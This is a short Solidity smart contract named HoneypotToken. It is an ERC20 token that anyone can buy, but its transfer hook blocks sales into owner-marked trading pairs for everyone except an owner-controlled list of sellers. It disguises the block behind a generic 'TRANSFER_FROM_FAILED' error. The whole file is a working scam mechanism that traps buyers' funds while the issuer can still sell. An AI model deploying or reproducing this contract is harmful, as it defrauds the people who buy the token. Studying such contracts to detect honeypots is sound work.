// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// Can be bought but not sold: transfers into the marked pair fail for everyone but allowed sellers.
contract HoneypotToken is ERC20, Ownable {
    mapping(address account => bool) private _pairs;
    mapping(address account => bool) private _sellers;

    constructor(
        string memory name_,
        string memory symbol_,
        uint256 supply,
        address holder,
        address owner_
    ) ERC20(name_, symbol_) Ownable(owner_) {
        _sellers[holder] = true;
        _sellers[owner_] = true;
        _mint(holder, supply);
    }

    function setPair(address pair, bool marked) external onlyOwner {
        _pairs[pair] = marked;
    }

    function setSeller(address account, bool allowed) external onlyOwner {
        _sellers[account] = allowed;
    }

    function _update(address from, address to, uint256 value) internal override {
        require(!_pairs[to] || _sellers[from], "TRANSFER_FROM_FAILED");
        super._update(from, to, value);
    }
}
